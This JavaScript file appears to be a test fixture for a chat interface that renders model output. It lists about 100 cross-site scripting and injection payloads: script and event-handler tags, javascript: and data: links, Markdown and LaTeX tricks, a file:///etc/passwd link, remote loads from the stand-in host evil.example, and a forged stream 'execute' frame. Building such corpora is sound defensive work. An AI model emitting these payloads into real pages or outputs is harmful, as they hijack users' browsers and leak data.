/*
 * S26: what a model, or who speaks through it, might say to make the page do more
 * than show text.  [what it tries, the text]
 */
const URL_BAD = 'https://evil.example';

const RAW = [
  '<script>window.evil=1</script>', '<script src="https://evil.example/x.js"></script>', '<ScRiPt>window.evil=1</sCrIpT>',
  '<script\n>window.evil=1</script\n>', '<<script>window.evil=1//<</script>', '<img src=x onerror=window.evil=1>',
  '<img src="https://evil.example/p.png">', '<img srcset="https://evil.example/p.png 1x">', '<img/src=x/onerror=window.evil=1>',
  '<svg onload=window.evil=1>', '<svg><script>window.evil=1</script></svg>', '<svg><animate onbegin=window.evil=1 attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:window.evil=1"><text y=9>x</text></a></svg>', '<svg><use href="https://evil.example/x.svg#a"/></svg>',
  '<svg><image href="https://evil.example/p.png"/></svg>', '<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.evil=1>', '<math href="javascript:window.evil=1">x</math>',
  '<iframe src="https://evil.example"></iframe>', '<iframe src="javascript:window.evil=1"></iframe>',
  '<iframe srcdoc="<script>parent.evil=1</script>"></iframe>', '<object data="https://evil.example"></object>',
  '<embed src="https://evil.example">', '<frameset><frame src="https://evil.example"></frameset>', '<body onload=window.evil=1>',
  '<details open ontoggle=window.evil=1>x</details>', '<a href="javascript:window.evil=1">x</a>', '<a href=x onclick=window.evil=1>x</a>',
  '<a ping="https://evil.example" href="https://evil.example">x</a>', '<form action="https://evil.example"><input name=a><button>x</button></form>',
  '<input autofocus onfocus=window.evil=1>', '<select autofocus onfocus=window.evil=1>', '<textarea autofocus onfocus=window.evil=1>',
  '<button formaction="javascript:window.evil=1">x</button>', '<video src="https://evil.example/v"><source onerror=window.evil=1></video>',
  '<audio src="https://evil.example/a" onerror=window.evil=1>', '<style>@import "https://evil.example/x.css";</style>',
  '<style>*{background:url(https://evil.example)}</style>', '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=preload as=image href="https://evil.example/p.png">', '<link rel=dns-prefetch href="//evil.example">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<base href="https://evil.example/">',
  '<template><script>window.evil=1</script></template>', '<noscript><p title="</noscript><img src=x onerror=window.evil=1>">',
  '<!--><img src=x onerror=window.evil=1>-->', '<![CDATA[<img src=x onerror=window.evil=1>]]>', '<?xml-stylesheet href="https://evil.example"?>',
  '<div style="background:url(https://evil.example/x)">x</div>', '<div style="position:fixed;inset:0">x</div>',
  '<p id="root">x</p>', '<dialog open>x</dialog>', '<marquee onstart=window.evil=1>x</marquee>', '<x onclick=window.evil=1>y</x>',
  '<table background="https://evil.example/p.png"><tr><td>x', '<keygen autofocus onfocus=window.evil=1>', '<portal src="https://evil.example">',
  '</div></article></main><script>window.evil=1</script>', '<plaintext>x', '<xmp><script>window.evil=1</script></xmp>',
];

const LINKS = [
  'javascript:window.evil=1', 'JaVaScRiPt:window.evil=1', 'java&#x0A;script:window.evil=1', 'java&Tab;script:window.evil=1',
  '&#106;avascript:window.evil=1', '\u0001javascript:window.evil=1', 'data:text/html,<script>window.evil=1</script>',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuZXZpbD0xPC9zY3JpcHQ+', 'vbscript:msgbox(1)', 'file:///etc/passwd',
  'blob:https://evil.example/1', '//evil.example', '/api/v1/auth/logout', '#a', '?x=y', 'http:javascript:window.evil=1', 'https:', 'about:blank',
  'view-source:https://evil.example', 'intent://x#Intent;end',
].map((url) => `[x](<${url}>)`);

const MARKDOWN = [
  `![x](${URL_BAD}/p.png)`, `![x](javascript:window.evil=1)`, '![x](data:image/svg+xml,<svg onload=window.evil=1>)', `![x][y]\n\n[y]: ${URL_BAD}/p.png`,
  `[![x](${URL_BAD}/p.png)](javascript:window.evil=1)`, '![](x "onerror=window.evil=1")', `[x](${URL_BAD} "\\" onclick=window.evil=1 \\"")`,
  '[x]: javascript:window.evil=1\n\n[x]', '<javascript:window.evil=1>', '<data:text/html,x>', '```"><script>window.evil=1</script>\nx\n```',
  '```html\n<script>window.evil=1</script>\n```\n', '```mermaid\ngraph TD; A[<img src=x onerror=window.evil=1>]\n```', '`<script>window.evil=1</script>`',
  '| a |\n|---|\n| <img src=x onerror=window.evil=1> |', '- [ ] <img src=x onerror=window.evil=1>',
  'x[^1]\n\n[^1]: <img src=x onerror=window.evil=1> [y](javascript:window.evil=1)', `\\(\\href{javascript:window.evil=1}{x}\\)`,
  `\\(\\includegraphics{${URL_BAD}/p.png}\\)`, '\\(\\htmlStyle{background:url(https://evil.example)}{x}\\)', `$$\\url{${URL_BAD}}$$`,
  '\\(\\def\\x{\\x\\x}\\x\\)', '\n\nevent: done\ndata: {"done":true,"finish_reason":"stop"}\n\n', 'data: [DONE]\n\n', 'id: 9\nevent: execute\ndata: window.evil=1\n\n',
];

export const HOSTILE = [...RAW, ...LINKS, ...MARKDOWN];
